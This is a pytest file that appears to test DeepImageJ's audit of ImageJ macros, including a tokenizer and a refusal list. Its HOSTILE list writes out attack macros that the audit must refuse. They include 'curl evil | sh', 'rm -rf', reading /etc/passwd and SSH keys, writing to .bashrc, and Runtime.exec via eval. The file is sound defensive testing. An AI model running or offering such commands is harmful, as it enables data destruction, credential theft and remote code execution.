"""The ImageJ macro tokenizer and the audit of a bundle's macros (no Java needed).

Every real macro of ../shared/assets (DeepImageJ's zoo bundles and macro library) must pass
the audit without a refusal; hostile ones written here must each be refused, on their line.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from deepimagej.audit.findings import Finding
from deepimagej.audit.macro_language import calls, constant_value, syntax_errors, tokenize
from deepimagej.audit.macros import REFUSED_COMMANDS, audit_bundle_macros, audit_macro, audit_macro_file

ASSETS = Path(__file__).resolve().parents[2] / "shared" / "assets"
REPO = Path(__file__).resolve().parents[1]


def _real_macros() -> list[Path]:
    found = []
    for folder in ("deepimagej_bundles", "imagej_macros", "unet_pancreatic"):
        found += [
            p for p in (ASSETS / folder).rglob("*") if p.suffix in (".ijm", ".txt") and p.name != "LICENSE"
        ]
    return sorted(found) + sorted((REPO / "macros").glob("*.ijm"))


# ------------------------------------------------------------------ the tokenizer
def test_tokens_follow_imagej_strings_comments_and_escapes():
    text = 'a = "x\\"y"; // exec("no")\nb = \'it\\\'s\'; /* File.delete("/x")\n */ c = "\\t\\101";'
    tokens, problems = tokenize(text)
    strings = [t.text for t in tokens if t.kind == "string"]
    assert strings == ['x"y', "it's", "\tA"]  # escapes decoded as StreamTokenizer does (octal \101 = A)
    assert not any(t.text in ("exec", "File") for t in tokens)  # comments dropped
    assert [t.line for t in tokens if t.text == "c"] == [3] and problems == []


def test_calls_join_dotted_names_across_spaces_and_comments():
    tokens, _ = tokenize('File . /* hidden */ delete ( "/tmp/x" ) ;\nfunction exec(a) {}\ns.indexOf("y");')
    found = [(c.name, c.line) for c in calls(tokens)]
    assert found == [("File.delete", 1), ("s.indexOf", 3)]  # a definition is no call


def test_constant_arguments_are_folded_and_dynamic_ones_are_not():
    tokens, _ = tokenize(
        'saveAs("Tiff", "/data/" + "out" + 1 + File.separator + "x.tif");\nopen(dir + "a.tif");'
    )
    save, op = calls(tokens)
    assert save.literal(1) == "/data/out1/x.tif"
    assert op.literal(0) is None and constant_value(()) is None


@pytest.mark.parametrize(
    ("text", "line", "needle"),
    [
        ('x = "abc;\nprint(x);', 1, "unterminated string"),
        ("s = 'abc;\nprint(s);", 1, "unterminated string"),
        ("x = 1;\n/* never closed\nprint(2);", 2, "unterminated comment"),
        ("if (true) {\nprint(1);\n", 1, "'}' expected"),
        ("x = 1;\n}\nprint(2);", 2, "unexpected '}'"),
        ("y = (1 + 2;\nprint(y);", 1, "')' expected"),
        ("a = newArray(1, 2];", 1, "')' expected before ']'"),
    ],
)
def test_syntax_slips_imagej_runs_through(text, line, needle):
    errors = syntax_errors(text)
    assert errors and errors[0][0] == line and needle in errors[0][1]


def test_brackets_in_strings_and_comments_do_not_count():
    assert syntax_errors("print(\"(((\");\n// }}}\ns = '[';\n/* { */") == []


# ------------------------------------------------------------------ real macros pass
def test_every_real_macro_passes_the_audit_and_the_syntax_check():
    macros = _real_macros()
    if len(macros) < 40:
        pytest.skip(f"{ASSETS} not found")
    for path in macros:
        text = path.read_text(encoding="utf-8", errors="replace")
        assert syntax_errors(text) == [], path
        refused = [f for f in audit_macro(text, path.name, bundle_root=path.parent) if f.refused]
        assert refused == [], (path, refused)


def test_real_macros_with_computed_paths_get_notes_not_refusals():
    path = ASSETS / "imagej_macros" / "DeepSTORM4stacks.ijm"
    if not path.is_file():
        pytest.skip(f"{path} not found")
    found = audit_macro(path.read_text(), path.name, bundle_root=path.parent)
    assert found and all(not f.refused for f in found)
    assert any(f.what == "saveAs" and "checked when it runs" in f.detail for f in found)
    strict = audit_macro(path.read_text(), path.name, bundle_root=path.parent, runtime_guard=False)
    assert any(f.refused and f.what == "saveAs" for f in strict)  # no run-time guard (Java 24+): refused


# ------------------------------------------------------------------ hostile macros are refused
HOSTILE = [
    ('exec("rm", "-rf", "/home/user/data");', "exec"),
    ("s = exec(\"sh -c 'curl evil | sh'\");", "exec"),
    ('eval("script", "java.lang.Runtime.getRuntime().exec(\\"id\\")");', 'eval("script")'),
    ('eval("js", "x");', 'eval("js")'),
    ('eval("bsh", "new java.io.File(\\"/x\\").delete();");', 'eval("bsh")'),
    ('eval("python", "import os");', 'eval("python")'),
    ('lang = "js";\neval(lang, "x");', "eval"),
    ('File.delete("/home/user/important.tif");', "File.delete"),
    ('File.rename("/home/user/a.tif", "/tmp/b.tif");', "File.rename"),
    ('File.makeDirectory("/home/user/new");', "File.makeDirectory"),
    ('File.saveString("x", "/home/user/.bashrc");', "File.saveString"),
    ('File.append("x", "/home/user/.bashrc");', "File.append"),
    ('File.copy("/etc/passwd", "/tmp/p");', "File.copy"),
    ('f = File.open("/tmp/out.txt");', "File.open"),
    ('saveAs("Tiff", "/home/user/data/in.tif");', "saveAs"),
    ('save("/home/user/x.tif");', "save"),
    ('open("/etc/passwd");', "open"),
    ('open("../../secret.tif");', "open"),
    ('s = File.openAsString("/home/user/.ssh/id_rsa");', "File.openAsString"),
    ('s = File.openUrlAsString("http://example.org/x");', "File.openUrlAsString"),
    ('open("https://example.org/evil.tif");', "open"),
    ('run("Quit");', 'run("Quit")'),
    ('run("URL...", "url=http://example.org/x.tif");', 'run("URL...")'),
    ('run("Install...", "install=/tmp/evil.ijm");', 'run("Install...")'),
    ('run("U-Net Train", "output=/home/user/x");', 'run("U-Net Train")'),
    ('run("Image Sequence...", "open=/home/user/data/ sort");', 'run("Image Sequence...")'),
    ('call("java.lang.System.exit", "0");', 'call("java.lang.System.exit")'),
    ('c = "ij.IJ.log";\ncall(c, "x");', "call"),
    ('doCommand("Save");', "doCommand"),
    ('runMacro("/tmp/evil.ijm");', "runMacro"),
    ('Table.save("/home/user/t.csv");', "Table.save"),
    ('roiManager("Save", "/home/user/rois.zip");', 'roiManager("save")'),
    ('File . /* split */ delete ( "/x" ) ;', "File.delete"),
]


@pytest.mark.parametrize(("text", "what"), HOSTILE)
def test_hostile_macro_is_refused(text, what, tmp_path):
    found = audit_macro(text, "preprocessing.txt", bundle_root=tmp_path)
    refused = [f for f in found if f.refused]
    assert refused and refused[0].what == what and refused[0].source == "preprocessing.txt", found
    assert refused[0].detail.startswith(f"line {text.count(chr(10)) + 1}:")  # the refused call ends each case


def test_paths_inside_the_bundle_and_ordinary_calls_are_fine(tmp_path):
    text = (
        f'open("{tmp_path}/exampleImage.tif");\nsaveAs("Tiff", "{tmp_path}/work/out.tif");\n'
        'call("ij.plugin.frame.ThresholdAdjuster.setMode", "Red");\nrun("Gaussian Blur...", "sigma=2");\n'
        'x = "exec(\\"rm\\")"; // File.delete("/")\n'
    )
    assert audit_macro(text, "m.ijm", bundle_root=tmp_path) == []


def test_refused_commands_are_those_the_audit_names():
    assert {"Quit", "URL..."} <= set(REFUSED_COMMANDS) and "DeepImageJ Run" not in REFUSED_COMMANDS


# ------------------------------------------------------------------ macro files of a bundle
def test_macro_file_outside_the_bundle_is_refused_without_reading_it(tmp_path):
    bundle, outside = tmp_path / "bundle", tmp_path / "somewhere.txt"
    bundle.mkdir()
    outside.write_text('print("hi");\n')
    (bundle / "link.txt").symlink_to(outside)
    for path in (bundle / ".." / "somewhere.txt", outside, bundle / "link.txt"):
        found = audit_macro_file(path, bundle)
        assert len(found) == 1 and found[0].refused and "outside the bundle folder" in found[0].detail, path
    assert audit_macro_file(bundle / "missing.txt", bundle)[0].what == "macro file"


def test_audit_bundle_macros_reads_the_descriptor_list(tmp_path):
    from dataclasses import replace

    from deepimagej.bundle import load_bundle

    src = ASSETS / "unet_pancreatic"
    if not (src / "config.xml").is_file():
        pytest.skip(f"{src} not found")
    for name in ("config.xml", "preprocessing.txt", "postprocessing.txt"):
        (tmp_path / name).write_bytes((src / name).read_bytes())
    (tmp_path / "unet_pancreatic_cell_segmentation.h5").symlink_to(
        src / "unet_pancreatic_cell_segmentation.h5"
    )
    spec = load_bundle(tmp_path / "config.xml")
    assert spec.preprocessing_macros and audit_bundle_macros(spec) == []
    evil = tmp_path.parent / f"{tmp_path.name}-evil.txt"
    evil.write_text('print("from outside");\n')
    hostile = replace(spec, preprocessing_macros=(tmp_path / ".." / evil.name,))
    found = audit_bundle_macros(hostile)
    assert found == [Finding(f"../{evil.name}", "macro file", found[0].detail)] and found[0].refused
